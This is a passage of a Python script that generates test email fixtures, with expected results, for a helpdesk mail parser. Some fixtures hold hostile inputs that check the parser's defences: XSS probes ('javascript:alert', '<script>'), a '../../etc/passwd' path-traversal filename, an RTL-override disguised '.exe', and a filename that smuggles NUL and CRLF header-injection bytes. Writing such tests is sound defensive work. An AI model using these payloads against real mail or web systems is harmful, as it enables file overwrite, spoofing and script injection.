md = ("Please click [here](javascript:alert(1)) or <script>alert(2)</script>\n"
      "![x](https://tracker.test/p.gif) and visit https://acme.test/help.\n")
add("plain-markdown-tricks", crlf(hdr(
    "tricky@md.test", "help@acme.test", "Markdown tricks", "<md-1@md.test>",
    extra="Content-Type: text/plain; charset=utf-8\n\n")) + crlf(md),
    ["text: Please click [here](javascript:alert(1)) or <script>alert(2)</script>",
     "reply: all", "html: none"])

LONG = "a" * 300 + ".txt"
add("hostile-filenames", crlf(hdr(
    "files@evil.test", "help@acme.test", "Files", "<files-1@evil.test>",
    extra="Content-Type: multipart/mixed; boundary=\"h\"\n\n"))
    + crlf("--h\nContent-Type: text/plain\n\nSee files.\n"
           "--h\nContent-Type: text/plain\nContent-Disposition: attachment; filename=\"../../etc/passwd\"\n\n"
           "root:x:0:0\n"
           "--h\nContent-Type: application/octet-stream\n"
           "Content-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe\n\nMZ\n"
           "--h\nContent-Type: application/octet-stream\nContent-Disposition: attachment;\n"
           + "".join(" filename*%d=\"%s\";\n" % (i, LONG[i * 76:(i + 1) * 76])
                     for i in range((len(LONG) + 75) // 76))
           + "\nlong\n"
           "--h\nContent-Type: application/octet-stream\n"
           "Content-Disposition: attachment; filename*=utf-8''evil%00.txt%0D%0AX-Injected%3A%20yes\n\nnul\n"
           "--h\nContent-Type: application/octet-stream\n"
           "Content-Disposition: attachment; filename*=iso-8859-1''r%E9sum%E9.doc\n\ncv\n"
           "--h--\n"),
    ["text: See files.", "files: 5",
     fileline("../../etc/passwd", "text/plain", b"root:x:0:0"),
     fileline("invoice\u202efdp.exe", "application/octet-stream", b"MZ"),
     fileline(LONG, "application/octet-stream", b"long"),
     fileline("résumé.doc", "application/octet-stream", b"cv"),
     "file-name-not: \r", "file-name-not: \n", "file-name-not: \x00"])

# --- machines ---------------------------------------------------------------
add("auto-submitted", crlf(hdr(
    "vacation@corp.test", "help@acme.test", "Away", "<auto-1@corp.test>",
    extra="Auto-Submitted: auto-replied\nContent-Type: text/plain\n\n")) + crlf("I am away.\n"),
    ["auto: AUTO_SUBMITTED", "text: I am away."])

add("auto-submitted-no", crlf(hdr(
    "person@corp.test", "help@acme.test", "A person", "<auto-2@corp.test>",
    extra="Auto-Submitted: no\nContent-Type: text/plain\n\n")) + crlf("Written by hand.\n"),
    ["auto: none", "text: Written by hand."])

add("precedence-bulk", crlf(hdr(
    "offers@shop.test", "help@acme.test", "50% off", "<bulk-1@shop.test>",
    extra="Precedence: bulk\nList-Unsubscribe: <mailto:unsub@shop.test>\n"
    "Content-Type: text/plain\n\n")) + crlf("Buy now.\n"),
    ["auto: PRECEDENCE", "text: Buy now."])

dsn_orig = crlf("From: help@acme.test\nTo: gone@nowhere.test\nSubject: [#4] Your ticket\n"
                "Message-ID: <hd.4.2.sig@acme.test>\n")
add("bounce-dsn", crlf("Return-Path: <>\nFrom: MAILER-DAEMON@mx.acme.test (Mail Delivery System)\n"
    "To: help@acme.test\nSubject: Undelivered Mail Returned to Sender\n"
    "Date: Mon, 30 Nov 2026 10:00:00 +0000\nMessage-ID: <dsn-1@mx.acme.test>\n"
    "Auto-Submitted: auto-replied\nMIME-Version: 1.0\n"
    "Content-Type: multipart/report; report-type=delivery-status;\n\tboundary=\"dsn\"\n\n"
    "--dsn\nContent-Description: Notification\nContent-Type: text/plain; charset=us-ascii\n\n"
    "This is the mail system at host mx.acme.test.\n\nI'm sorry to have to inform you that your message could not\n"
    "be delivered to one or more recipients.\n\n<gone@nowhere.test>: host nowhere.test said: 550 no such user\n"
    "--dsn\nContent-Description: Delivery report\nContent-Type: message/delivery-status\n\n"
    "Reporting-MTA: dns; mx.acme.test\n\nFinal-Recipient: rfc822; gone@nowhere.test\nAction: failed\n"
    "Status: 5.1.1\n\n--dsn\nContent-Description: Undelivered Message Headers\n"
    "Content-Type: text/rfc822-headers\n\n") + dsn_orig + crlf("--dsn--\n"),
    ["from: mailer-daemon@mx.acme.test", "auto: AUTO_SUBMITTED,BOUNCE",
     "text: I'm sorry to have to inform you that your message could not", "files: 2",
     "file-name-not: /"])

add("mailing-list", crlf(hdr(
    "Someone <someone@list.test>", "users@lists.example.test", "[users] Release 2.0",
    "<list-1@list.test>",
    extra="List-Id: Users list <users.lists.example.test>\nList-Post: <mailto:users@lists.example.test>\n"
    "Precedence: list\nDelivered-To: help@acme.test\nX-Original-To: help@acme.test\n"
    "Content-Type: text/plain\n\n")) + crlf("Release 2.0 is out.\n"),
    ["auto: PRECEDENCE,LIST", "rcpt: users@lists.example.test", "rcpt: help@acme.test",
     "rcpts: 2", "text: Release 2.0 is out."])

add("x-loop", crlf(hdr(
    "help@acme.test", "help@acme.test", "Loop", "<loop-1@acme.test>",
    extra="X-Loop: helpdesk@acme.test\nContent-Type: text/plain\n\n")) + crlf("Looping.\n"),
    ["x-loop: helpdesk@acme.test", "auto: none"])

# --- replies in other languages -------------------------------------------
add("german-reply", crlf(hdr(
    "kunde@firma.test", "help@acme.test", "AW: Frage", "<de-1@firma.test>",
    extra="Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"))
    + crlf("Danke, das hat geholfen.\n\nAm 30.11.2026 um 09:00 schrieb Acme Helpdesk <help@acme.test>:\n"
           "> Bitte neu starten.\n".encode()),
    ["text: Danke, das hat geholfen.", "reply: Am 30.11.2026 um 09:00 schrieb Acme Helpdesk <help@acme.test>:"])

add("french-reply", crlf(hdr(
    "client@societe.test", "help@acme.test", "RE: Question", "<fr-1@societe.test>",
    extra="Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"))
    + crlf("Merci beaucoup.\n\nLe lun. 30 nov. 2026 à 09:00, Acme Helpdesk <help@acme.test> a écrit\u00a0:\n"
           "> Veuillez redémarrer.\n".encode()),
    ["text: Merci beaucoup.", "reply: Le lun. 30 nov. 2026 à 09:00, Acme Helpdesk"])

add("signature-only", crlf(hdr(
    "sig@corp.test", "help@acme.test", "Signature", "<sig-1@corp.test>",
    extra="Content-Type: text/plain\n\n")) + crlf("Short question: is it down?\n\n-- \nSam\n+1 555 0100\n"),
    ["text: Short question: is it down?", "reply: -- "])

# --- not a message ----------------------------------------------------------
add("not-a-message", b"\x00\x01\x02 this is not mail at all\r\n\r\n\r\n",
    ["refused: yes"])

add("empty-body", crlf(hdr(
    "empty@body.test", "help@acme.test", "", "<empty-1@body.test>", extra="\n")),
    ["subject: ", "files: 0", "reply: all", "html: none"])


def main():
    os.makedirs(HERE, exist_ok=True)
    for name, (raw, expect) in sorted(corpus.items()):
        with open(os.path.join(HERE, name + ".eml"), "wb") as f:
            f.write(raw)
        with open(os.path.join(HERE, name + ".expect"), "w", encoding="utf-8",
                  newline="\n") as f:
            for line in expect:
                f.write(line.replace("\\", "\\\\").replace("\r", "\\r")
                        .replace("\n", "\\n").replace("\x00", "\\0") + "\n")
    print("%d messages in %s" % (len(corpus), HERE))


main()
